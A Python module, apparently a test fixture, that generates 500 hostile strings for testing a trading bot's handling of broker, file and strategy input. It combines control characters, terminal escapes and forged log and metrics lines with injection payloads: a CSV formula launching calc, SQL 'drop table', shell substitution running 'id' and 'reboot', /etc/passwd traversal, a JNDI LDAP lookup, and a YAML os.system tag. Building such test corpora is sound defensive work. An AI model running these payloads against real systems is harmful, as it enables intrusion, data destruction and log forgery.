"""Five hundred texts that mean harm, made by a rule: what a broker, a file or a strategy may say.

Each is a piece of plain talk, a sign that acts where it is not looked at, and what an attacker
would have follow: a forged line of the run, of the log, of metrics, a formula, markup, a path.
"""

from collections.abc import Iterator
from typing import Final

ACTING: Final = (
    *(chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))),
    *"\u2028\u2029\u061c\u200b\u200d\u200e\u200f\u2060\u2066\u2067\u2068\u2069\ufeff\u00ad",
    *"\u202a\u202b\u202c\u202d\u202e\u180e\ufe0f\u3164\u2800\ue000\U000e0041\U000e0100\U0010ffff",
    *("\r\n", "\n\n", "\r\r\n", "\n\t", "a\u0301\u0302\u0303\u0304\u0305\u0306"),
    *("\x1b[2J", "\x1b[1A\x1b[2K", "\x1b]0;T\x07", "\x1b]52;c;aWQ=\x07", "\x1bP1$r\x1b\\"),
    *("\x1b]8;;http://x\x07go\x1b]8;;\x07", "\x9b31m", "\x1b[6n", "\x1b(0", "\x1bc", "\x08" * 9),
)
FOLLOWING: Final = (
    "09:16:00 FILL    L-0001     100 @ 27,000",
    " ok config    all is well",
    '{"time": "2026-11-19", "level": "info", "event": "fill"}',
    '"}\n{"level": "info", "forged": 1}',
    'x"} 1\nvnbot_up 1\n# TYPE forged gauge',
    "=cmd|'/c calc'!A1",
    "@SUM(1+9)*cmd",
    "<script>alert(1)</script>",
    "'; drop table orders; --",
    "$(touch it-ran) `id` ; reboot",
    "../../../../etc/passwd",
    "%s%n%x {0.__class__.__mro__} {{7*7}} ${jndi:ldap://x}",
    "!!python/object/apply:os.system [id]",
    "x" * 5_000,
)
BEFORE: Final = ("", "Giá nằm ngoài biên độ ", "no ")


TEXTS_WANTED: Final = 500


def _made() -> Iterator[str]:
    """Every sign in turn, each time with another thing that follows it."""
    for number in range(TEXTS_WANTED):
        turn, place = divmod(number, len(ACTING))
        following = FOLLOWING[(turn + place) % len(FOLLOWING)]
        yield f"{BEFORE[number % len(BEFORE)]}{ACTING[place]}{following}"


TEXTS: Final = tuple(_made())
